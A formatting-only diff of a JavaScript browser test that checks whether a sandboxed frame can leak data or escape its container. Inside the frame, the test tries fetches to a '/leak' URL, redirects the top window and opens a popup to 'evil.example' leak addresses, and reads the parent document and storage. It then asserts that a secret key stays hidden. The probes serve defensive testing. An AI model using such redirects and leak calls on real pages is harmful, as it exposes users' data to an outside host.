@@ -17,10 +17,19 @@ for (const place of ["file", "http"]) {
     site.seen.length = 0;
     const tried = await bench.work.evaluate(async () => {
       const out = {};
-      const answer = (run) => Promise.resolve().then(run).then(() => "open", (error) => error.name);
+      const answer = (run) =>
+        Promise.resolve()
+          .then(run)
+          .then(
+            () => "open",
+            (error) => error.name,
+          );
       out.provider = await answer(() => fetch("https://api.anthropic.com/leak"));
       out.own = await answer(() => fetch(document.baseURI));
-      out.top = await answer(() => { window.top.location.href = "https://evil.example/leak"; throw new Error(); });
+      out.top = await answer(() => {
+        window.top.location.href = "https://evil.example/leak";
+        throw new Error();
+      });
       out.outer = await answer(() => window.parent.document.body);
       out.storage = await answer(() => localStorage.length);
       window.open("https://evil.example/popup-leak");
@@ -64,7 +73,11 @@ for (const place of ["file", "http"]) {
     assert.ok(!(await bench.work.evaluate(() => document.documentElement.outerHTML)).includes(KEY));
     await bench.picture(`single-answer-${place}`);
     const links = await bench.work.locator("a[href]").evaluateAll((all) => all.map((one) => one.getAttribute("href")));
-    assert.deepEqual(links.filter((to) => !to.startsWith("about:srcdoc#")), [], "no link leads this frame away");
+    assert.deepEqual(
+      links.filter((to) => !to.startsWith("about:srcdoc#")),
+      [],
+      "no link leads this frame away",
+    );
     await bench.work.locator(".skip").focus();
     await bench.page.keyboard.press("Enter");
     await pause(300);
